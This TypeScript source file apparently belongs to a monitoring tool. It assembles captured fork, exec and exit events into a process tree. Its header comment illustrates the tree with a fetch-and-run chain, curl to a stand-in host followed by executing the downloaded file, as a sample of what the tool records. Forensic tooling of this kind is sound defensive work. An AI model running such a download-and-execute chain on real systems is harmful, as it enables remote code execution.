// The processes of a capture as a tree, from what happened to them: forks, programs, ends.
//
//   sshd ── bash ──┬─ curl http://192.0.2.7/x       one node a process; what it ran one after the other are its programs
//                  └─ sh -c ./x ── ./x

import type { ProcessView } from '../../journal/process-view.ts';
import { wordsOf } from '../../sessions/command-hash.ts';

export interface Program {
  /** ns since the epoch. */
  readonly time: bigint;
  readonly image: bigint;
  readonly name: string;
  /** The arguments; none if they are unknown. */
  readonly words: readonly string[];
  /** The name and the arguments, joined. */
  readonly commandLine: string;
  readonly executable: string;
  readonly user: string;
}

export interface TreeProcess {
  readonly pid: number;
  /** ns since the epoch; undefined: it ran before the capture begins. */
  readonly began: bigint | undefined;
  readonly programs: Program[];
  /** When, and its wait status. */
  ended: { readonly time: bigint; readonly status: number } | undefined;
  parent: TreeProcess | undefined;
  readonly children: TreeProcess[];
}

export class ProcessTree {
  readonly #byImage = new Map<bigint, TreeProcess>();
  /** Time of what was added last. */
  #now = 0n;

  /** The process that has or had the image. */
  of(image: bigint): TreeProcess | undefined {
    return this.#byImage.get(image);
  }

  get processes(): readonly TreeProcess[] {
    return [...new Set(this.#byImage.values())];
  }

  /** Takes in what happened to a process; returns the process, if it is one. */
  add(view: ProcessView): TreeProcess | undefined {
    if (view.isOfThread) return undefined;
    if (view.time > this.#now) this.#now = view.time;
    switch (view.change) {
      case 'snapshot':
      case 'fork':
        return this.#begin(view);
      case 'exec':
      case 'change':
        return this.#goOn(view);
      case 'exit': {
        const process = this.#byImage.get(view.id);
        // An end that is part of a list of all processes has no time: it was before the list.
        if (process) process.ended ??= { time: view.time === 0n ? this.#now : view.time, status: view.waitStatus };
        return process;
      }
    }
  }

  #begin(view: ProcessView): TreeProcess {
    // A list of all processes repeats those that are known.
    const known = this.#byImage.get(view.id);
    if (known) return known;
    const parent = this.#byImage.get(view.parent);
    const process: TreeProcess = {
      pid: view.pid,
      began: view.change === 'fork' ? view.time : undefined,
      programs: [programOf(view)],
      ended: undefined,
      parent,
      children: [],
    };
    parent?.children.push(process);
    this.#byImage.set(view.id, process);
    return process;
  }

  /** Another image of a process that is known. */
  #goOn(view: ProcessView): TreeProcess {
    const process = this.#byImage.get(view.previous);
    if (!process) return this.#begin(view);
    this.#byImage.set(view.id, process);
    if (view.change === 'exec') process.programs.push(programOf(view));
    return process;
  }
}

function programOf(view: ProcessView): Program {
  return {
    time: view.time,
    image: view.id,
    name: view.text('comm') ?? '',
    words: wordsOf(view.image?.bytes('argv')),
    commandLine: view.text('cmdline') ?? '',
    executable: view.text('executable') ?? '',
    user: view.text('user_name') ?? '',
  };
}

/** Adds the process and those it descends from, up to the first that is there already: with it, its own are. */
export function addBranch(branch: Set<TreeProcess>, process: TreeProcess): void {
  for (let next: TreeProcess | undefined = process; next && !branch.has(next); next = next.parent) branch.add(next);
}

/** The processes and all that descend from them. */
export function familyOf(processes: readonly TreeProcess[]): ReadonlySet<TreeProcess> {
  // A set goes on with what is added while it is gone through.
  const family = new Set(processes);
  for (const one of family) for (const child of one.children) family.add(child);
  return family;
}
